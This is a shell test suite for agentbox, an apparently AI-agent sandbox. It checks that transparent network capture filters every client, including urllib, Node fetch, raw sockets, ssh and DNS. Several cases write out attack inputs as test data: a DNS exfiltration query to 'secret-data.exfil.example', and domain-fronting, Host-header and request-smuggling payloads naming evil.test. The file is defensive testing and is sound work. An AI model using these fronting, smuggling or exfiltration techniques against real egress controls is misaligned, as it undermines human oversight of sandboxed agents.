#!/bin/bash
# SPDX-License-Identifier: LicenseRef-agentbox-unlicensed
# Transparent capture ([network] mode = proxy, capture = auto): clients that ignore the proxy
# variables (urllib without proxies, Node's fetch, raw sockets, a raw DNS query to any server)
# are filtered by the same rules, not merely cut off. Names resolve through the in-sandbox DNS
# stub (allowed names get an address of 198.18.0.0/15, the rest NXDOMAIN, every query audited);
# a captured connection is decided on the name behind its address, and its TLS server name or
# HTTP Host must name the same host. Test names (www.test, ...) are pinned to the host's
# test servers on 127.0.0.1 with `resolve =`, so nothing leaves the machine.
. "$(dirname "$0")/lib.sh"

# ------------------------------------------------------------- helpers ----

mk_www() {
	BODY="capture-body-$(unique)"
	mkdir -p "$META/www"
	printf '%s\n' "$BODY" >"$META/www/file.txt"
	serve www "$META/www"
	WWW_PORT=$PORT
}

helpers_in() {
	cp "$HELPERS/capture_client.py" "$CASE/" || fail "cannot copy the helper into $CASE"
}

# profile [capture = VALUE] [more [network] lines...]: $META/capture.ini, the shell profile in
# proxy mode allowing www.test, tls.test and talk.test (pinned to the host's 127.0.0.1).
profile() {
	{
		printf '[sandbox]\ninclude = %s/shell.ini\n[network]\nmode = proxy\n' "$AGENTBOX_PROFILES"
		printf 'allow = www.test, tls.test, talk.test\n'
		printf 'resolve = www.test=127.0.0.1, tls.test=127.0.0.1, talk.test=127.0.0.1\n'
		printf '%s\n' "$@"
	} >"$META/capture.ini"
	case " $* " in *"capture = off"*) ;; *) need_capture ;; esac
}

# Capture needs nf_tables with NAT in the sandbox's network namespace. Where agentbox reports
# (its `capture` warning) that the kernel refused the rules, the case is n/a, but only if the
# kernel's config, where it can be read, agrees that nf_tables NAT is missing: a kernel built
# with it that still refuses is a failure to look at, not a missing feature.
need_capture() {
	local config
	expect_exit 0 "$AGENTBOX" -p "$META/capture.ini" --audit "$META/probe.jsonl" -- true
	grep -q '"event":"warning".*"what":"capture"' "$META/probe.jsonl" || return 0
	config=$(zcat /proc/config.gz 2>/dev/null || cat "/boot/config-$(uname -r)" 2>/dev/null)
	if [ -n "$config" ] && printf '%s\n' "$config" | grep -q '^CONFIG_NF_TABLES=[ym]' &&
		printf '%s\n' "$config" | grep -q '^CONFIG_NFT_NAT=[ym]'; then
		fail "agentbox says capture is unavailable, but this kernel has nf_tables and NAT" \
			"$(grep '"what":"capture"' "$META/probe.jsonl")"
	fi
	not_applicable "no nf_tables NAT in this kernel: capture is unavailable"
}

# box NAME ARGS...: BOX runs the case's profile with an audit trail $META/NAME.jsonl (AUDIT),
# with every proxy variable removed, so each client is on its own.
box() {
	AUDIT="$META/$1.jsonl"
	shift
	BOX=("$AGENTBOX" -p "$META/capture.ini" --audit "$AUDIT" -- env -u HTTP_PROXY -u http_proxy
		-u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy -u NODE_USE_ENV_PROXY
		-u npm_config_proxy -u npm_config_https_proxy "$@")
}

net() {
	NET=$("$PY" "$HELPERS/egress_audit.py" "$AUDIT" "$@" 2>&1) ||
		fail "cannot read the events of $AUDIT: $NET"
}

client() {
	"$PY" capture_client.py "$@"
}

# ---------------------------------------------------------------- cases ----

t_urllib_allowed_and_denied() {
	mk_www
	helpers_in
	profile
	box urllib sh -c "$PY capture_client.py resolve www.test
		$PY capture_client.py get http://www.test:$WWW_PORT/file.txt
		$PY capture_client.py resolve denied.test
		$PY capture_client.py get http://denied.test:$WWW_PORT/file.txt"
	expect_exit 0 "${BOX[@]}"
	assert_contains "$OUT" "ADDR:198.18." "an allowed name resolves to the stub's range"
	assert_contains "$OUT" "BODY:$BODY" "a client with no proxy reaches an allowed name"
	assert_contains "$OUT" "ERROR:gaierror" "a denied name does not resolve"
	net protocol=capture
	assert_contains "$NET" " decision=allow protocol=capture host=www.test port=$WWW_PORT address=127.0.0.1 rule=www.test resolve=www.test=127.0.0.1 sni=www.test method=GET " \
		"the captured connection's audit event"
	assert_contains "$NET" "count=1" "one captured connection (the denied name never connected)"
	net event=dns name=denied.test
	assert_contains "$NET" " decision=deny name=denied.test type=1 rcode=NXDOMAIN rule=null " \
		"the DNS query for the denied name, audited"
	net event=dns name=www.test type=1
	assert_contains "$NET" " decision=allow name=www.test type=1 rcode=NOERROR rule=www.test address=198.18." \
		"the DNS query for the allowed name, audited with the address given"
}

t_curl_and_node_fetch() {
	mk_www
	helpers_in
	profile
	cat >fetch.js <<-EOF
		fetch('http://www.test:$WWW_PORT/file.txt')
		  .then(async r => console.log('STATUS:' + r.status + ' BODY:' + (await r.text()).trim()))
		  .catch(e => console.log('ERROR:' + (e.cause ? e.cause.code : e)));
		fetch('http://denied.test:$WWW_PORT/file.txt')
		  .then(r => console.log('DENIED-STATUS:' + r.status))
		  .catch(e => console.log('DENIED-ERROR:' + (e.cause ? e.cause.code : e)));
	EOF
	box fetch sh -c "curl -sS --max-time 10 http://www.test:$WWW_PORT/file.txt; node fetch.js"
	expect_exit 0 "${BOX[@]}"
	[ "$(printf '%s\n' "$OUT" | grep -c "$BODY")" -eq 2 ] ||
		fail "curl and Node's fetch (no NODE_USE_ENV_PROXY) should both get the body" "$(report)"
	assert_contains "$OUT" "STATUS:200 BODY:$BODY" "Node's fetch without proxy variables"
	assert_contains "$OUT" "DENIED-ERROR:ENOTFOUND" "Node's fetch of a denied name"
	net protocol=capture host=www.test
	assert_contains "$NET" "count=2" "both clients were captured"
	# positive control for the proxy path: with NODE_USE_ENV_PROXY=1 and the variables
	# (Node 20 ignores them for fetch, so it is captured too; curl uses the proxy)
	expect_exit 0 "$AGENTBOX" -p "$META/capture.ini" --audit "$META/env.jsonl" -- sh -c \
		"curl -sS --noproxy '' --max-time 10 http://www.test:$WWW_PORT/file.txt"
	assert_contains "$OUT" "$BODY" "curl through the proxy variables"
	AUDIT="$META/env.jsonl" net protocol=http host=www.test
	assert_contains "$NET" "count=1" "curl with the variables used the HTTP proxy"
}

t_raw_sockets() {
	local pf=$META/port.sink
	bg "$PY" "$HELPERS/egress_sink.py" "$pf"
	wait_for_file "$pf" 10 || fail "the sink did not start"
	local sink=$(cat "$pf")
	helpers_in
	profile
	box raw sh -c "$PY capture_client.py echo talk.test $sink
		$PY capture_client.py echo 192.0.2.1 80
		$PY capture_client.py echo 2001:db8::1 80"
	expect_exit 0 "${BOX[@]}"
	assert_contains "$OUT" "ECHO:e-capture-echo" "a raw socket to an allowed name is relayed"
	[ "$(printf '%s\n' "$OUT" | grep -c '^ECHO:$')" -eq 2 ] ||
		fail "raw connects to 192.0.2.1 and [2001:db8::1] should be closed with nothing relayed" \
			"$(report)"
	net decision=deny
	assert_contains "$NET" " decision=deny protocol=capture host=192.0.2.1 port=80 rule=null " \
		"the raw IPv4 connect, refused and audited"
	assert_contains "$NET" " decision=deny protocol=capture host=[2001:db8::1] port=80 rule=null " \
		"the raw IPv6 connect, refused and audited"
	# positive control: an address rule lets the same raw IPv4 connect through
	profile "allow = 127.0.0.1:$sink"
	box raw-allowed "$PY" capture_client.py echo 127.0.0.2 "$sink"
	expect_exit 0 "${BOX[@]}"
	# 127.0.0.2 is the sandbox's own loopback: not captured, nothing listens there
	assert_contains "$OUT" "ERROR:ConnectionRefusedError" "loopback inside the sandbox is not captured"
}

t_server_speaks_first() {
	local token="banner-$(unique)"
	cat >"$META/banner.py" <<-'EOF'
		import socket, sys, os
		s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(8)
		open(sys.argv[1] + ".tmp", "w").write(str(s.getsockname()[1])); os.rename(sys.argv[1] + ".tmp", sys.argv[1])
		while True:
		    c, _ = s.accept(); c.sendall(sys.argv[2].encode() + b"\n"); c.close()
	EOF
	bg "$PY" "$META/banner.py" "$META/port.banner" "$token"
	wait_for_file "$META/port.banner" 10 || fail "the banner server did not start"
	helpers_in
	profile
	box banner "$PY" capture_client.py banner talk.test "$(cat "$META/port.banner")"
	expect_exit 0 "${BOX[@]}"
	assert_contains "$OUT" "DATA:$token" "a server that speaks first is reached (no client bytes to wait for)"
}

# ssh (git over ssh) needs no proxy command: its connection is captured and decided on the name.
# The host's fake server records the client's banner and hangs up.
t_ssh_captured() {
	cat >"$META/sshd.py" <<-'EOF'
		import os, socket, sys
		s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(8)
		open(sys.argv[1] + ".tmp", "w").write(str(s.getsockname()[1])); os.rename(sys.argv[1] + ".tmp", sys.argv[1])
		while True:
		    c, _ = s.accept()
		    c.sendall(b"SSH-2.0-agentbox-test\r\n")
		    line = c.makefile("rb").readline()
		    open(sys.argv[2], "ab").write(line)
		    c.close()
	EOF
	bg "$PY" "$META/sshd.py" "$META/port.sshd" "$META/banners"
	wait_for_file "$META/port.sshd" 10 || fail "the fake ssh server did not start"
	local port=$(cat "$META/port.sshd")
	profile
	box ssh ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
		-p "$port" git@talk.test true
	expect_exit 255 "${BOX[@]}" # the fake server hangs up after the banners
	assert_contains "$(cat "$META/banners" 2>/dev/null)" "SSH-2.0-OpenSSH" \
		"ssh's banner reached the host's server through the capture"
	net protocol=capture
	assert_contains "$NET" " decision=allow protocol=capture host=talk.test port=$port address=127.0.0.1 rule=talk.test " \
		"the ssh connection's audit event"
	# and a host no rule allows does not even resolve
	box ssh-denied ssh -o BatchMode=yes -p "$port" git@github.example true
	expect_exit 255 "${BOX[@]}"
	assert_contains "$ERR" "Could not resolve hostname github.example" "ssh to a denied host"
}

t_host_header_must_match() {
	mk_www
	helpers_in
	profile
	box host sh -c "$PY capture_client.py rawhttp www.test $WWW_PORT evil.test
		$PY capture_client.py rawhttp www.test $WWW_PORT www.test:$WWW_PORT"
	expect_exit 0 "${BOX[@]}"
	assert_contains "$OUT" "STATUS:403" "a Host header naming another host is refused"
	assert_contains "$OUT" "DENIED:the connection was allowed for www.test, but its HTTP request names evil.test" \
		"the refusal names both hosts"
	assert_contains "$OUT" "STATUS:200" "positive control: the matching Host header is served"
}

# mk_tls_names: $META/www over HTTPS on $TLS_PORT, with a certificate for tls.test and
# evil.test from a test CA (ca.pem, also in $CASE), so only agentbox can tell the names apart.
mk_tls_names() {
	mk_www
	test_ca "$META/tls" DNS:tls.test,DNS:evil.test
	cp "$META/tls/ca.pem" "$CASE/ca.pem"
	serve tls "$META/www" "$META/tls/srv.pem" "$META/tls/srv.key"
	TLS_PORT=$PORT
}

# vhosts: a keep-alive HTTP/1.1 server on the host answering "host=<its Host header>"; sets
# VHOSTS_PORT.
vhosts() {
	cat >"$META/vhosts.py" <<-'EOF'
		import http.server, os, sys
		class H(http.server.BaseHTTPRequestHandler):
		    protocol_version = "HTTP/1.1"
		    def do_GET(self):
		        b = ("host=" + self.headers.get("Host", "") + "\r\n").encode()
		        self.send_response(200)
		        self.send_header("Content-Length", str(len(b)))
		        self.end_headers()
		        self.wfile.write(b)
		    def log_message(self, *a):
		        pass
		s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
		open(sys.argv[1] + ".tmp", "w").write(str(s.server_port)); os.rename(sys.argv[1] + ".tmp", sys.argv[1])
		s.serve_forever()
	EOF
	bg "$PY" "$META/vhosts.py" "$META/port.vhosts"
	wait_for_file "$META/port.vhosts" 10 || fail "the keep-alive server did not start"
	VHOSTS_PORT=$(cat "$META/port.vhosts")
}

# A keep-alive server would answer a second, pipelined request for another virtual host on the
# connection the first one opened: a captured plain request goes up with Connection: close.
t_pipelined_host_not_served() {
	vhosts
	local port=$VHOSTS_PORT
	helpers_in
	# control, on the host: the server answers both pipelined requests
	expect_exit 0 "$PY" capture_client.py pipeline 127.0.0.1 "$port" www.test evil.test
	assert_contains "$OUT" "SEEN:host=www.test host=evil.test" "control: the server answers a pipelined request"
	profile
	box pipeline "$PY" capture_client.py pipeline www.test "$port" "www.test:$port" evil.test
	expect_exit 0 "${BOX[@]}"
	assert_eq "SEEN:host=www.test:$port" "$(printf '%s\n' "$OUT" | grep '^SEEN:')" \
		"only the checked request is answered"
}

# A captured plain-HTTP connection carries one request: a second one on it (pipelined, after
# the first response, or right after the first request's body) never reaches the server, which
# would answer it (test_requests.sh's host control); the connection's event says why. Positive
# control: the first request, with its body, arrives whole.
t_captured_second_refused() {
	local shape log="$META/requests.log"
	bg "$PY" "$HELPERS/request_log_server.py" "$META/port.log" "$log" keep
	wait_for_file "$META/port.log" 10 || fail "the request-logging server did not start"
	cp "$HELPERS/second_request.py" "$CASE/" || fail "cannot copy the client"
	profile
	for shape in pipelined keepalive cl_smuggle chunk_smuggle; do
		box "second-$shape" "$PY" second_request.py direct www.test "$(cat "$META/port.log")" \
			"$shape"
		expect_exit 0 "${BOX[@]}"
		assert_eq "STATUSES:200" "$OUT" "$shape: only the first request answered"
		assert_contains "$(cat "$AUDIT")" "a second request on one plain-HTTP connection" \
			"$shape: the refusal audited"
	done
	assert_not_contains "$(cat "$log")" "/second" "a second request reached the server"
	assert_eq 2 "$(grep -c '^POST /first host=www.test:[0-9]* body=5$' "$log")" \
		"the first requests' bodies arrived whole"
}

# Ways to name another host than the one allowed, each of which some server would follow: every
# one is refused before a byte reaches the server (which would answer host=evil.test).
t_fronting_attempts_refused() {
	vhosts
	local p=$VHOSTS_PORT
	helpers_in
	profile
	box fronting sh -c "
		$PY capture_client.py send www.test $p 0 'GET / HTTP/1.1\\r\\nHost: www.test:$p\\r\\nConnection: close\\r\\n\\r\\n'
		$PY capture_client.py send www.test $p 0.6 'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'
		$PY capture_client.py send www.test $p 0 '\\r\\nGET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'
		$PY capture_client.py send www.test $p 0 'GET http://evil.test/ HTTP/1.1\\r\\nHost: www.test:$p\\r\\n\\r\\n'
		$PY capture_client.py send www.test $p 0 'GET / HTTP/1.1\\r\\nHost: www.test:$p\\r\\nHost: evil.test\\r\\n\\r\\n'
		$PY capture_client.py send www.test $p 0 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'
		$PY capture_client.py send 127.0.0.1 3128 0 'GET http://www.test:$p/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'"
	expect_exit 0 "${BOX[@]}"
	local seen
	seen=$(printf '%s\n' "$OUT" | grep '^SEEN:' | tr '\n' '|')
	assert_eq "SEEN:host=www.test:$p|SEEN:|SEEN:|SEEN:|SEEN:|SEEN:|SEEN:host=www.test:$p|" "$seen" \
		"control, a late Host, leading CRLF, an absolute target, two Hosts, h2c, the proxy's Host"
	net decision=deny
	assert_contains "$NET" "reason=the connection was allowed for www.test, but its HTTP request names evil.test " \
		"the late Host is checked when it comes"
	assert_contains "$NET" "count=5" "five captured attempts refused and audited"
}

# The explicit proxy checks a tunnel's first bytes too: CONNECT to an allowed name, then a
# ClientHello for another.
t_tunnel_server_name_must_match() {
	mk_tls_names
	local tls_port=$TLS_PORT
	helpers_in
	profile
	box tunnel sh -c "$PY capture_client.py tlsvia 3128 tls.test $tls_port evil.test ca.pem
		$PY capture_client.py tlsvia 3128 tls.test $tls_port tls.test ca.pem"
	expect_exit 0 "${BOX[@]}"
	assert_eq "STATUS:200" "$(printf '%s\n' "$OUT" | grep '^STATUS:')" \
		"only the tunnel whose server name matches completes"
	net decision=deny
	assert_contains "$NET" " decision=deny protocol=connect host=tls.test port=$tls_port " \
		"the mismatched tunnel is refused"
	assert_contains "$NET" "but its TLS server name names evil.test" "and the audit says why"
}

t_tls_server_name_must_match() {
	mk_tls_names
	local tls_port=$TLS_PORT
	helpers_in
	profile
	box tls sh -c "$PY capture_client.py tls tls.test $tls_port evil.test ca.pem
		$PY capture_client.py tls tls.test $tls_port tls.test ca.pem"
	expect_exit 0 "${BOX[@]}"
	assert_contains "$OUT" "ERROR:" "a TLS server name for another host fails (the proxy closed it)"
	assert_contains "$OUT" "STATUS:200" "positive control: the matching server name completes"
	net decision=deny
	assert_contains "$NET" " decision=deny protocol=capture host=tls.test port=$tls_port rule=null sni=evil.test reason=the connection was allowed for tls.test, but its TLS server name names evil.test " \
		"the refusal's audit event names the server name"
	net decision=allow
	assert_contains "$NET" " sni=tls.test " "the allowed connection's server name is audited"
}

t_dns_stub() {
	helpers_in
	profile
	# a query to any server (the host's resolver, a made-up one, IPv6) lands at the stub
	box dns sh -c "$PY capture_client.py dns 10.9.9.9 www.test 1
		$PY capture_client.py dns 10.9.9.9 secret-data.exfil.example 1
		$PY capture_client.py dns 10.9.9.9 www.test 16
		$PY capture_client.py dns ::1 www.test 1
		$PY capture_client.py dnsraw 10.9.9.9 12340100000200000000000000
		$PY capture_client.py dnsraw 10.9.9.9 1234"
	expect_exit 0 "${BOX[@]}"
	local rcodes
	rcodes=$(printf '%s\n' "$OUT" | grep -E '^(RCODE|NOREPLY)' | tr '\n' ' ')
	assert_eq "RCODE:0 RCODE:3 RCODE:0 RCODE:0 RCODE:1 NOREPLY: " "$rcodes" \
		"rcodes: allowed A, denied name, allowed TXT (no data), over IPv6, two questions, a runt"
	assert_contains "$OUT" "ADDR:198.18.0.1" "the first allowed name gets the range's first address"
	[ "$(printf '%s\n' "$OUT" | grep -c '^ADDR:198.18.0.1$')" -eq 2 ] ||
		fail "the same name should keep its address (also over IPv6)" "$(report)"
	net event=dns
	assert_contains "$NET" " decision=deny name=secret-data.exfil.example type=1 rcode=NXDOMAIN " \
		"the exfiltration attempt is answered locally and audited"
	assert_contains "$NET" " decision=allow name=www.test type=16 rcode=NOERROR rule=www.test " \
		"a TXT query of an allowed name: audited, no data"
	assert_contains "$NET" " rcode=FORMERR " "the malformed query is audited"
	assert_contains "$NET" "count=5" "five answered queries, five events (the runt got no answer)"
}

t_methods_apply_to_captured_http() {
	mk_www
	helpers_in
	profile "methods = HEAD"
	box methods "$PY" capture_client.py get "http://www.test:$WWW_PORT/file.txt"
	expect_exit 0 "${BOX[@]}"
	assert_contains "$OUT" "STATUS:403" "GET is refused when only HEAD is allowed"
	assert_contains "$OUT" "DENIED:method GET is not allowed" "the refusal names the method"
}

# [http] rules apply to a captured plain request as to a proxied one (test_http_rules.sh): a path
# no allow rule matches is a 403 naming the default denial; the allowed path is served.
t_http_rules_apply_to_captured_http() {
	mk_www
	helpers_in
	profile "[http]" "allow = GET www.test/file.txt"
	box rules "$PY" capture_client.py get "http://www.test:$WWW_PORT/file.txt"
	expect_exit 0 "${BOX[@]}"
	assert_contains "$OUT" "STATUS:200" "the allowed path"
	box rules-denied "$PY" capture_client.py get "http://www.test:$WWW_PORT/other.txt"
	expect_exit 0 "${BOX[@]}"
	assert_contains "$OUT" "STATUS:403" "a path no allow rule matches"
	assert_contains "$OUT" "DENIED:no [http] allow rule matches" "the header names the denial"
}

t_capture_port_itself() {
	helpers_in
	profile
	box self "$PY" capture_client.py echo 127.0.0.1 3129
	expect_exit 0 "${BOX[@]}"
	assert_contains "$OUT" "ECHO:" "a connection to the capture listener itself is closed"
	net
	assert_contains "$NET" "reason=a connection to the capture listener itself" \
		"and audited as such"
}

t_capture_off_and_profile_errors() {
	helpers_in
	profile "capture = off"
	box off "$PY" capture_client.py dns 10.9.9.9 www.test 1
	expect_exit 0 "${BOX[@]}"
	assert_contains "$OUT" "ERROR:OSError:101:" "capture = off: a query has no route (ENETUNREACH)"
	printf '[sandbox]\ninclude = %s/shell.ini\n[network]\ncapture = on\n' "$AGENTBOX_PROFILES" \
		>"$META/bad.ini"
	expect_exit 125 "$AGENTBOX" -p "$META/bad.ini" -- true
	assert_contains "$ERR" "capture = on but mode is none" "capture = on needs proxy mode"
	assert_contains "$ERR" "fix:" "the error says how to fix it"
}

run_case urllib_allowed_and_denied t_urllib_allowed_and_denied
run_case curl_and_node_fetch t_curl_and_node_fetch
run_case raw_sockets t_raw_sockets
run_case server_speaks_first t_server_speaks_first
run_case ssh_captured t_ssh_captured
run_case host_header_must_match t_host_header_must_match
run_case pipelined_host_not_served t_pipelined_host_not_served
run_case captured_second_refused t_captured_second_refused
run_case fronting_attempts_refused t_fronting_attempts_refused
run_case tunnel_server_name_must_match t_tunnel_server_name_must_match
run_case tls_server_name_must_match t_tls_server_name_must_match
run_case dns_stub t_dns_stub
run_case methods_apply_to_captured_http t_methods_apply_to_captured_http
run_case http_rules_apply_to_captured_http t_http_rules_apply_to_captured_http
run_case capture_port_itself t_capture_port_itself
run_case capture_off_and_profile_errors t_capture_off_and_profile_errors
finish
